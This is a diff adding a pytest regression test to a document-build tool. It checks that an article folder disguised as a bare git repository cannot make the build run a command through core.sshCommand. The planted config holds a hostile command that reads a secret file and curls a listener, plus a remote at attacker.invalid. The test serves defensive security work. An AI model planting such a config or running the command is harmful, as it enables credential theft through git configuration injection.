@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import os
 import re
+import zipfile
 
 import pytest
 
@@ -295,6 +296,35 @@ def test_an_articles_own_git_config_runs_nothing(case, tmp_path):
     result = case.build()
     assert result.status == 0, result.text
     assert not marker.exists()
+
+
+def test_an_article_folder_laid_out_as_a_bare_repository_runs_nothing(case, listener, tmp_path):
+    """git takes a folder holding HEAD, objects/ and refs/ for a repository and obeys its config:
+    a promisor remote made `git log` fetch through core.sshCommand, a command of the article's.
+    The folder sits in the editor's own repository, whose last commit still dates the article."""
+    import subprocess
+
+    marker = tmp_path / "git-ran-the-articles-command"
+    case.article(article_text(date=None))
+    case.write("HEAD", "ref: refs/heads/main\n")
+    case.write("refs/heads/main", "1" * 40 + "\n")
+    (case.folder / "objects").mkdir()
+    config = (f"[core]\n\trepositoryformatversion = 1\n\tbare = true\n"
+              f"\tsshCommand = \"touch '{marker}'; cat '{case.secret_file}'; curl -s {listener.url}/git; false\"\n"
+              "[extensions]\n\tpartialClone = origin\n"
+              "[remote \"origin\"]\n\turl = ssh://attacker.invalid/repo\n\tpromisor = true\n")
+    case.write("config", config)
+    env = {"GIT_AUTHOR_DATE": "2019-05-06T07:08:09+00:00", "GIT_COMMITTER_DATE": "2019-05-06T07:08:09+00:00",
+           "GIT_AUTHOR_NAME": "e", "GIT_AUTHOR_EMAIL": "e@d", "GIT_COMMITTER_NAME": "e", "GIT_COMMITTER_EMAIL": "e@d",
+           "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
+    for command in (["init", "-q"], ["add", "source"], ["commit", "-q", "-m", "the editor's project"]):
+        subprocess.run(["git", *command], cwd=case.root, env=env, check=True, capture_output=True)
+    result = case.build("--formats", "epub")
+    assert result.status == 0, result.text
+    assert not marker.exists(), "git ran the article's command"
+    assert case.folder.joinpath("config").read_text(encoding="utf-8") == config  # and wrote nothing there
+    with zipfile.ZipFile(case.edition("epub")) as book:
+        assert b"2019-05-06T07:08:09Z" in book.read("EPUB/content.opf")  # the editor's repository answered
 
 
 ORDINARY_SVGS = {
